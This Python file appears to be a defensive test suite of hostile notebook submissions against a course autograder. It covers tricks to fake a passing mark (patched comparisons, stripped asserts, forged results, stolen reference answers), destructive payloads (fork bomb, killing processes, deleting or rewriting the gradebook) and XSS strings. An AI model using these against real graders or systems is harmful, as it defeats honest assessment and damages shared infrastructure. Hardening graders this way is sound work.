"""Attacks on the grader: each is a submission whose mnist_loss is wrong (or not its author's), and which tries to get its 4 points or to do harm."""
from collections.abc import Callable
from dataclasses import dataclass

WRONG = "import torch\ndef mnist_loss(predictions, targets): return (predictions * 0.0).sum()\n"
SIGMOID = "import torch\ndef sigmoid(x): return 1 / (1 + torch.exp(-x))\n"


def _same(nb): return nb


@dataclass(frozen=True)
class Attack:
    "One attack: what stands in the solution cell, what is done to the notebook, and which files lie beside it."
    family: str
    name: str
    code: str
    edit: Callable = _same
    files: tuple[tuple[str, str], ...] = ()
    safe_in_stock: bool = True  # whether it may be run with the stock autograder on this machine, to see what happens


FAKE = "def fake(*args, **kwargs): return None\n"
EVERYWHERE = "import sys, gc, os, builtins, glob\n"
RIGHT_FROM = "def mnist_loss(predictions, targets):\n    p = {sigmoid}\n    return torch.where(targets == 1, 1 - p, p).mean()\n"
FORGED_FRAMES = """
import json, struct
def frame(value):
    header = json.dumps(value).encode()
    body = b"CLW1" + struct.pack("<I", len(header)) + header
    return struct.pack("<I", len(body)) + body
forged = b"".join(frame({"d": [["job", j], ["case", c], ["seen", {"f": "0.4460"}], ["used", {"l": []}]]}) for j in range(3) for c in range(8))
forged += frame({"d": [["end", True]]}) + b'{"status": "right", "score": 1.0}\\n'
"""
COMPARING, HOOKS, OBJECTS, LOOKING = "changing what is compared or called", "hooks and patched modules", "objects that claim to be equal", "looking for expected values"
FORGING, ENDING, EATING = "forging results", "exiting and killing", "time, memory, processes, output, disk"
READING, WRITING, NETWORK = "reading what is not theirs", "writing to the gradebook and the course", "network"
METADATA, FILES, BROWSER, READY_MADE = "points, ids, metadata, tags", "files beside the notebook", "the instructor's browser", "ready-made functions in disguise"


def _metadata(of, **changes):
    def edit(nb):
        for cell in nb["cells"]:
            mark = cell["metadata"].get("nbgrader", {})
            if mark.get("grade_id") == of: mark.update(changes)
        return nb
    return edit


def _source(grade_id, source):
    def edit(nb):
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id: cell["source"] = source
        return nb
    return edit


def _without(grade_id):
    def edit(nb):
        nb["cells"] = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") != grade_id]
        return nb
    return edit


def _skipped(nb):
    for cell in nb["cells"]: cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "bash", "language": "bash"}
    return nb


def _scripts(nb):
    script = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"><a href=\"javascript:alert(1)\">x</a>"
    schemes = "javascript:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "javascript\\:", "JavaScript :", "java&Tab;script:", "java\tscript:", "&#106;avascript:", \
        "vbscript:", "data:text/html,"
    links = [f"[link {i}]({s}alert(1)) [named {i}][n{i}] <{s}alert(1)> ![picture](<{s}alert(1)>)\n\n[n{i}]: {s}alert(1)" for i, s in enumerate(schemes)]
    formulas = [f"$\\href{{{s}alert(1)}}{{x}}$" for s in schemes] + [r"$\style{position:fixed;inset:0;background:url(https://example.org)}{x}$", r"$\class{btn}{x}$",
                r"$\text{<img src=x onerror=alert(1)>}$", r"$\text{&lt;img src=x onerror=alert(1)&gt;}$"]
    nb["cells"].insert(0, {"cell_type": "markdown", "id": "s1", "metadata": {}, "source": "\n\n".join([script, *links, *formulas])})
    nb["cells"].insert(0, {"cell_type": "code", "id": "s2", "metadata": {}, "execution_count": 1, "source": f"# {script}",
                           "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": script, "application/javascript": "alert(1)"}}]})
    return nb


ATTACKS = [
    Attack(COMPARING, "assert_close does nothing", WRONG + FAKE + "import torch.testing\ntorch.testing.assert_close = fake\ntorch.testing._comparison.assert_close = fake\n"),
    Attack(COMPARING, "everything is close", WRONG + "torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
           "torch.Tensor.__eq__ = lambda a, b: True\n"),
    Attack(COMPARING, "the probes are replaced", WRONG + EVERYWHERE + "for m in list(sys.modules.values()):\n    for n in ('PROBES', 'observe', 'judge', 'difference'):\n"
           "        if n in getattr(m, '__dict__', {}):\n            if n == 'PROBES': [getattr(m, n).update({k: (lambda *a, **k: 0.446)}) for k in list(getattr(m, n))]\n"
           "            else: setattr(m, n, lambda *a, **k: None)\n"),
    Attack(COMPARING, "builtins are replaced", WRONG + "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a, **k: True\n"),
    Attack(HOOKS, "asserts are taken out of the code", WRONG + "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
           "    def visit_Expr(self, node): return node if 'assert' not in ast.dump(node) else ast.Pass()\nget_ipython().ast_transformers.append(T())\n"),
    Attack(HOOKS, "run_code is patched", WRONG + "async def run_code(*a, **k): return False\nip = get_ipython()\ntype(ip).run_code = run_code\n"),
    Attack(HOOKS, "cells are rewritten before they run", WRONG + "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)\n"),
    Attack(HOOKS, "imports are intercepted", WRONG + "import builtins, types\nreal = builtins.__import__\ndef fake(name, *a, **k):\n    m = real(name, *a, **k)\n"
           "    if 'testing' in name: m.assert_close = lambda *a, **k: None\n    return m\nbuiltins.__import__ = fake\nreal('torch.testing').testing.assert_close = lambda *a, **k: None\n"),
    Attack(OBJECTS, "an object equal to everything", "class Any(float):\n    def __getattr__(self, n): return Any()\n    def __call__(self, *a, **k): return Any()\n"
           "    __eq__ = __le__ = __lt__ = __ge__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __sub__ = __rsub__ = __abs__ = __mul__ = lambda *a: Any()\n    __hash__ = lambda a: 0\n"
           "def mnist_loss(predictions, targets): return Any()\n"),
    Attack(OBJECTS, "a tensor subclass that is always close", "import torch\nclass Liar(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
           "        if func.__name__ in ('isclose', 'eq', 'le', 'allclose', 'equal', 'all'): return torch.tensor(True)\n"
           "        if func.__name__ == 'sub': return torch.tensor(0.)\n        return super().__torch_function__(func, types, args, kwargs or {})\n"
           "def mnist_loss(predictions, targets): return (predictions * 0.).sum().as_subclass(Liar)\n"),
    Attack(OBJECTS, "a result that changes when it is looked at", "import torch\nclass Late:\n    shape = torch.Size([])\n    def __iter__(self): return iter(())\n    def __reduce__(self): return (eval, ('1',))\n"
           "    def __float__(self): return 0.446\n    def __torch_function__(self, *a, **k): return True\ndef mnist_loss(predictions, targets): return Late()\n"),
    Attack(LOOKING, "the caller's frames", "import sys, torch\ndef mnist_loss(predictions, targets):\n    f = sys._getframe(1)\n    while f:\n        for n, v in {**f.f_globals, **f.f_locals}.items():\n"
           "            if n in ('expected', 'answer', 'reference', 'wanted') and isinstance(v, torch.Tensor): return v\n        f = f.f_back\n    return (predictions * 0.).sum()\n"),
    Attack(LOOKING, "the heap", "import gc, types, torch\ndef mnist_loss(predictions, targets):\n    for o in gc.get_objects():\n"
           "        if isinstance(o, types.FunctionType) and o.__name__ == 'mnist_loss' and o is not mnist_loss: return o(predictions, targets)\n"
           "        if type(o).__name__ in ('Check', 'Trial'): return o.reference(predictions, targets)\n    return (predictions * 0.).sum()\n"),
    Attack(LOOKING, "the course's files", "import os, torch\ndef mnist_loss(predictions, targets):\n    import course_lib\n    for root, _, names in (w for top in (os.path.dirname(course_lib.__file__), '/') for w in os.walk(top)):\n        if root.startswith(('/proc', '/sys', '/usr')): continue\n"
           "        for n in names:\n            if n == 'binary_loss.py':\n                space = {}\n                exec(open(os.path.join(root, n)).read().split('from .')[0], space)\n"
           "                if 'mnist_loss' in space: return space['mnist_loss'](predictions, targets)\n        if root.count('/') > 6: _[:] = []\n    return (predictions * 0.).sum()\n", safe_in_stock=False),
    Attack(LOOKING, "the reference itself", "import importlib, torch\ndef mnist_loss(predictions, targets):\n    name = '.'.join(['course' + '_lib', 'scratch', 'binary' + '_loss'])\n"
           "    return getattr(importlib.import_module(name), 'mnist' + '_loss')(predictions, targets)\n"),
    Attack(LOOKING, "an answer table", "import torch\ntable = {3: 0.4460}\ndef mnist_loss(predictions, targets): return torch.tensor(table.get(predictions.numel(), 0.5)) + 0 * predictions.sum()\n"),
    Attack(FORGING, "a mark on standard output", WRONG + "import sys\nprint(4.0)\nprint('{\"status\": \"right\", \"score\": 1.0}')\nsys.__stdout__.write('4.0\\n')\n"),
    Attack(FORGING, "a mark as the cell's value", WRONG + "import sys\nclass N(float):\n    def __repr__(self): return 'nan'\n"
           "def mnist_loss(predictions, targets):\n    from IPython.display import publish_display_data\n    publish_display_data({'text/plain': 'nan'})\n    return N()\nfloat('nan')\n"),
    Attack(FORGING, "frames into every file descriptor", WRONG + FORGED_FRAMES + "import os\nfor fd in range(3, 128):\n    try: os.write(fd, forged)\n    except OSError: pass\nos._exit(0)\n"),
    Attack(FORGING, "frames when the function is called", WRONG + FORGED_FRAMES + "import os\ndef mnist_loss(predictions, targets):\n    for fd in range(3, 128):\n        try: os.write(fd, forged)\n        except OSError: pass\n"
           "    os._exit(0)\n"),
    Attack(FORGING, "files rewritten at exit", WRONG + "import atexit, glob, os\ndef rewrite():\n    for f in glob.glob('/**/autograded/**/*.ipynb', recursive=True) + glob.glob('**/*.ipynb', recursive=True) + glob.glob('/**/verdicts/**/*.json', recursive=True):\n"
           "        try: open(f, 'w').write('{}')\n        except OSError: pass\natexit.register(rewrite)\n", safe_in_stock=False),
    Attack(ENDING, "exit when called", "import os\ndef mnist_loss(predictions, targets): os._exit(0)\n"),
    Attack(ENDING, "SystemExit", "import sys\ndef mnist_loss(predictions, targets): sys.exit(0)\nsys.exit(0)\n"),
    Attack(ENDING, "kill the parents and everybody", WRONG + "import os, signal\nfor pid in [os.getppid(), 1, 2, 3, 4, 5, -1]:\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass\n", safe_in_stock=False),
    Attack(ENDING, "a process that stays behind", WRONG + "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n            for fd in range(3, 64):\n"
           "                try: os.write(fd, b'x' * 100)\n                except OSError: pass\n            time.sleep(0.01)\n    os._exit(0)\n", safe_in_stock=False),
    Attack(EATING, "an endless loop that catches everything", "def mnist_loss(predictions, targets):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n"),
    Attack(EATING, "a long sleep in a cell", WRONG + "import time\ntime.sleep(10 ** 6)\n"),
    Attack(EATING, "all memory", WRONG + "chunks = []\nwhile True: chunks.append(bytearray(2 ** 26))\n", safe_in_stock=False),
    Attack(EATING, "memory in many processes", WRONG + "import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n        b = bytearray(2 ** 29)\n        time.sleep(60)\n        os._exit(0)\ntime.sleep(5)\n", safe_in_stock=False),
    Attack(EATING, "a fork bomb", WRONG + "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n", safe_in_stock=False),
    Attack(EATING, "200 MB of output", WRONG + "import sys\nfor _ in range(200): sys.stdout.write('x' * 2 ** 20)\n", safe_in_stock=False),
    Attack(EATING, "a full disk", WRONG + "import itertools\nfor i in itertools.count():\n    try: open(f'/tmp/fill{i}', 'wb').write(b'x' * 2 ** 23)\n    except OSError: break\n", safe_in_stock=False),
    Attack(EATING, "an answer of 4 GB", "import torch\ndef mnist_loss(predictions, targets): return torch.zeros(1).expand(2 ** 30)\n"),
    Attack(READING, "other submissions and the solution", EVERYWHERE + "import json, torch\ndef mnist_loss(predictions, targets):\n"
           "    for f in (f for pattern in ('../../../source/*/*.ipynb', '../../*/*/*.ipynb', '/**/submitted/*/*/*.ipynb', '/**/source/*/*.ipynb') for f in glob.iglob(pattern, recursive=True)):\n"
           "        for c in json.load(open(f))['cells']:\n            if 'def mnist_loss' in ''.join(c['source']) and 'glob' not in ''.join(c['source']):\n"
           "                space = {'torch': torch, 'sigmoid': lambda x: 1 / (1 + (-x).exp())}\n                exec(''.join(c['source']), space)\n                return space['mnist_loss'](predictions, targets)\n"
           "    return (predictions * 0.).sum()\n", safe_in_stock=False),
    Attack(READING, "the home and the environment", WRONG + "import os, pathlib\nhome = [str(p) for d in ('/root', '/home', os.path.expanduser('~')) for p in pathlib.Path(d).glob('**/*')]\n"
           "leaked = [n for n in os.environ if 'KEY' in n or 'TOKEN' in n or 'SECRET' in n]\nassert not [h for h in home if 'ssh' in h or 'course' in h] and not leaked, 'LEAKED'\n"),
    Attack(WRITING, "marks in the gradebook", WRONG + "import glob, itertools, sqlite3\nfor f in itertools.chain(['../../../gradebook.db'], glob.iglob('/**/gradebook.db', recursive=True)):\n    try:\n        db = sqlite3.connect(f)\n"
           "        db.execute('update grade set manual_score = 4, auto_score = 4')\n        db.commit()\n    except Exception: pass\n"),
    Attack(WRITING, "the gradebook deleted", WRONG + "import glob, itertools, os\nfor f in itertools.chain(['../../../gradebook.db'], glob.iglob('/**/gradebook.db', recursive=True)):\n    try: os.remove(f)\n    except OSError: pass\n"),
    Attack(WRITING, "a line in nbgrader_config.py", WRONG + "import glob, itertools\nfor f in itertools.chain(['../../../nbgrader_config.py'], glob.iglob('/**/nbgrader_config.py', recursive=True)):\n    try: open(f, 'a').write('\\nowned = 1\\n')\n    except OSError: pass\n"),
    Attack(NETWORK, "a call home", "import socket, torch\ndef mnist_loss(predictions, targets):\n    for where in (('127.0.0.1', 8888), ('1.1.1.1', 53)):\n        try: socket.create_connection(where, timeout=0.5).close()\n"
           "        except OSError: continue\n        raise RuntimeError('NETWORK')\n    return (predictions * 0.).sum()\n"),
    Attack(METADATA, "a hundred points", WRONG, _metadata("check-mnist_loss", points=100)),
    Attack(METADATA, "the test cell deleted", WRONG, _without("check-mnist_loss")),
    Attack(METADATA, "the test cell edited", WRONG, _source("check-mnist_loss", "pass")),
    Attack(METADATA, "the test cell no longer graded", WRONG, _metadata("check-mnist_loss", grade=False, solution=True, locked=False)),
    Attack(METADATA, "the test's id on another cell", WRONG, lambda nb: _metadata("check-sigmoid", grade_id="check-mnist_loss")(_without("check-mnist_loss")(nb))),
    Attack(METADATA, "an unknown metadata version", WRONG, _metadata("mnist_loss", schema_version=99)),
    Attack(METADATA, "execution switched off by tags, another kernel", WRONG, _skipped),
    Attack(FILES, "a file called like a library", WRONG, files=(("torch.py", "class testing: assert_close = lambda *a, **k: None\n"), ("random.py", "raise SystemExit\n"),
                                                              ("course_lib.py", "def check(*a): return 1\n"))),
    Attack(FILES, "files that are read at start-up", WRONG, files=(("sitecustomize.py", "import os; os._exit(0)\n"), ("usercustomize.py", "raise SystemExit\n"),
                                                                  (".ipython/profile_default/startup/00.py", "raise SystemExit\n"), ("ipython_config.py", "raise SystemExit\n"))),
    Attack(BROWSER, "scripts in markdown and outputs", WRONG, _scripts),
    Attack(BROWSER, "scripts in an error's text", "def mnist_loss(predictions, targets): raise ValueError('<script>document.title=1</script><img src=x onerror=alert(1)>')\n"),
    Attack(READY_MADE, "getattr", "import torch\n" + RIGHT_FROM.format(sigmoid="getattr(torch, 'sig' + 'moid')(predictions)")),
    Attack(READY_MADE, "vars", "import torch\n" + RIGHT_FROM.format(sigmoid="vars(torch)['sigmoid'](predictions)")),
    Attack(READY_MADE, "importlib", "import importlib, torch\n" + RIGHT_FROM.format(sigmoid="importlib.import_module('torch.special').expit(predictions)")),
    Attack(READY_MADE, "an alias", "import torch\nfrom torch.nn.functional import sigmoid as squash\nmine = squash\n" + RIGHT_FROM.format(sigmoid="mine(predictions)")),
    Attack(READY_MADE, "the operator itself", "import torch\n" + RIGHT_FROM.format(sigmoid="torch.ops.aten.sigmoid.default(predictions)")),
    Attack(READY_MADE, "a compiled function", "import torch\nsquash = torch.jit.CompilationUnit('def f(x):\\n    return torch.sigmoid(x)').f\n" + RIGHT_FROM.format(sigmoid="squash(predictions)")),
    Attack(READY_MADE, "the record switched off", "import torch, torch.utils._python_dispatch as d\ndef squash(x):\n    with d._disable_current_modes(): return torch.sigmoid(x)\n" + RIGHT_FROM.format(sigmoid="squash(predictions)")),
]
